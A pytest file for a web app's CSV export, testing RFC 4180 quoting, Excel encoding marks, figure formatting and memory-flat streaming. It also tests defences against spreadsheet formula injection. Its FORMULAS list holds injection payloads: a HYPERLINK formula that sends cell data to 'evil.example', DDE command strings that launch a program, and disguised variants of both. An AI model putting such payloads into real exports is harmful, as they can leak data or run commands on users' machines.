"""Lists as CSV files: what a reader of RFC 4180 gets back, what no spreadsheet takes for a formula, and flat memory."""

from __future__ import annotations

import csv
import io
import weakref
from collections.abc import Sequence
from datetime import UTC, datetime
from decimal import Decimal
from itertools import islice

import pytest

from hub.core.model import Money
from hub.web import exports
from hub.web.exports import Column

SAME: Column[str] = Column("Text", lambda row: row)


def file_of(*texts: str) -> str:
    return "".join(exports.lines([SAME], texts))


def read_back(text: str) -> list[str]:
    return [row[0] if row else "" for row in csv.reader(io.StringIO(text, newline=""))][1:]


# Beginnings that a spreadsheet acts upon, and ways to hide them.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+49 170 1234",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\tKettle",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(A1)",
    "-",
    "--1",
    "-1-1",
    "-1e5",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_takes_for_a_formula_is_told_to_be_text(text: str) -> None:
    (cell,) = read_back(file_of(text))

    assert cell == f"'{text}"


@pytest.mark.parametrize("text", ["-5", "-5.25", "-1,234.50", "12", "1.5", "", "Kettle", "a=b", "O'Hara", "3-4", "#7"])
def test_plain_numbers_and_words_stay_as_they_are(text: str) -> None:
    assert read_back(file_of(text, "next"))[0] == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("Kettle;=1+1", "Kettle;'=1+1"),
        ("Kettle; \t@SUM(A1)", "Kettle; \t'@SUM(A1)"),
        ("Kettle\t-1+1", "Kettle\t'-1+1"),
        ("\t=1+1", "'\t'=1+1"),
        ("=1;=2", "'=1;'=2"),
        ("red; blue", "red; blue"),
        ("a;-5", "a;-5"),
    ],
)
def test_a_formula_behind_another_separator_is_text_too(text: str, cell: str) -> None:
    assert read_back(file_of(text)) == [cell]


@pytest.mark.parametrize(
    "text", ['say "hi"', "a,b", "two\nlines", "two\r\nlines", "Łódź 東京 🎁", "\u202eevil", "'", '"', '",', " "]
)
def test_quotes_commas_and_lines_come_back_as_they_were(text: str) -> None:
    assert read_back(file_of("before", text, "after")) == ["before", text, "after"]


def test_lines_end_as_the_standard_says_and_begin_with_the_headings() -> None:
    columns: list[Column[int]] = [
        Column("Order", str),
        Column("Units", lambda row: -row),
        Column("=Sum", lambda row: None),
    ]

    assert "".join(exports.lines(columns, [1, 2])) == "Order,Units,'=Sum\r\n1,-1,\r\n2,-2,\r\n"


def test_a_file_for_excel_begins_with_the_mark_of_its_encoding() -> None:
    assert "".join(exports.lines([SAME], [], mark=True)).encode() == b"\xef\xbb\xbfText\r\n"


def test_figures_are_written_as_figures() -> None:
    assert exports.written(-3) == "-3"
    assert exports.written(Decimal("1E+3")) == "1000"
    assert exports.written(Money.of("-1234.50", "EUR")) == "-1234.50"
    assert exports.written(datetime(2026, 3, 2, 12, 30, 15, 999, tzinfo=UTC)) == "2026-03-02 12:30:15"
    assert exports.written(None) == ""


# ---------------------------------------------------------------- of any size


class Row:
    """A row that can be watched."""

    def __init__(self, number: int) -> None:
        self.number = number


def test_a_million_rows_are_never_in_memory_together() -> None:
    alive: weakref.WeakSet[Row] = weakref.WeakSet()
    most, reads = 0, []

    def read(last: int | None) -> Sequence[Row]:
        nonlocal most
        reads.append(last)
        begin = (last or 0) + 1
        rows = [Row(number) for number in range(begin, min(begin + 20_000, 1_000_001))]
        if len(reads) <= 3:
            alive.update(rows)
            most = max(most, len(alive))
        return rows

    column: Column[Row] = Column("Number", lambda row: row.number)
    pieces = exports.lines([column], exports.pages(read, lambda row: row.number))
    sizes = [len(piece) for piece in pieces]

    assert len(reads) == 51
    assert reads[:3] == [None, 20_000, 40_000]
    assert most <= 40_001, "one page, and the next one as it comes"
    assert max(sizes) < 66_000
    assert sum(sizes) == len("Number\r\n") + sum(9 * 10**digits * (digits + 3) for digits in range(6)) + 9


def test_nothing_is_read_before_it_is_wanted() -> None:
    reads: list[int | None] = []

    def read(last: int | None) -> Sequence[int]:
        reads.append(last)
        return range((last or 0) + 1, (last or 0) + 11)

    assert list(islice(exports.pages(read, int), 5)) == [1, 2, 3, 4, 5]
    assert reads == [None]
